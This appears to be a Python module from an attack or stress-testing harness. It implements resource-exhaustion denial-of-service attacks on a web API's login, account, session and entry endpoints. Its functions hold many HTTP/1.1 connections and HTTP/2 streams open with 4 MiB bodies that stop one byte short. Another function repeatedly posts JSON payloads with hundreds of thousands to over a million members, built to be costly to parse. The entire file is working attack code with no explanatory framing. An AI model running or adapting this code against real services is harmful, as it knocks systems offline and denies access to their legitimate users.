"""Bodies of 4 MiB whose last byte does not come, and bodies that are costly to parse."""
import http2
from wire import answer, post

SIZE = 4 << 20
CONNECTIONS = 160
BEGIN = b'{"title":"'


def _place(attack, index):
    """Path and token of the place that takes the body: three open ones and one behind a session."""
    places = [("/api/v1/accounts/prelogin", None), ("/api/v1/accounts", None), ("/api/v1/sessions", None),
              ("/api/v1/entries", attack.tenant.token)]
    return places[index % len(places)]


def plain(attack, spread=1, is_chunked=False):
    """HTTP/1.1, with a length or in chunks."""
    part = b"a" * 65_536
    chunk = b"10000\r\n" + part + b"\r\n"

    def one(index):
        made = attack.tls(index % spread)
        attack.held.append(made)
        path, token = _place(attack, index)
        made.sendall(post(path, None if is_chunked else SIZE, token))
        sent = 0
        while sent < SIZE - 65_536 and attack.left() > 0:
            made.sendall(chunk if is_chunked else part)
            sent += 65_536
            attack.count("MiB sent", 1 / 16)
        if not is_chunked and sent == SIZE - 65_536:
            made.sendall(part[:-1])
            attack.count("bodies one byte short")

    attack.crowd(attack.scaled(CONNECTIONS), one, threads=16)
    attack.hold()


def h2(attack, connections=8):
    """As many streams as the node allows, each with a body that stops short."""
    part = BEGIN + b"a" * 16_384

    def one(index):
        connection = http2.Connection(attack.tls(0, "h2"))
        attack.held.append(connection)
        connection.read()
        streams = [2 * number + 1 for number in range(min(connection.streams, 100))]
        for number, stream in enumerate(streams):
            path, token = _place(attack, number)
            connection.send(http2.request(
                stream, path, "POST", token, [("content-length", str(SIZE))], is_end=False))
        attack.count("streams", len(streams))
        left = {stream: SIZE - 1 for stream in streams}
        connection.socket.settimeout(0.5)
        while attack.left() > 0 and not connection.is_over:
            sent = 0
            for stream in list(left):
                if stream in connection.ended:
                    attack.count(f"answered {connection.statuses.get(stream, 'by a reset')}")
                    left.pop(stream)
                elif (size := min(connection.room(stream), left[stream])) > 0:
                    connection.send_data(stream, part[:size])
                    left[stream] -= size
                    sent += size
            attack.count("MiB sent", sent / (1 << 20))
            if not sent:
                try:
                    connection.read()
                except TimeoutError:
                    pass

    attack.crowd(attack.scaled(connections), one, threads=8)
    attack.hold()


def members(attack):
    """Whole bodies of 400,000 members, of a million empty texts or fields, again and again."""
    texts = [b"{" + b",".join(b'"%x":0' % number for number in range(400_000)) + b"}",
             b'{"title":"t","tags":[""' + b',""' * 1_300_000 + b"]}",
             b'{"title":"t","fields":[{}' + b",{}" * 1_300_000 + b"]}"]

    def one(index):
        with attack.tls(0) as made:
            path, token = _place(attack, 3 if index % 6 > 3 else index)
            text = texts[index % 6 - 3 if index % 6 > 3 else 0]
            made.sendall(post(path, len(text), token) + text)
            made.settimeout(max(0.2, min(20, attack.left())))
            attack.count(f"answered {answer(made) or 'nothing'}")

    attack.repeat(one, threads=attack.scaled(48))
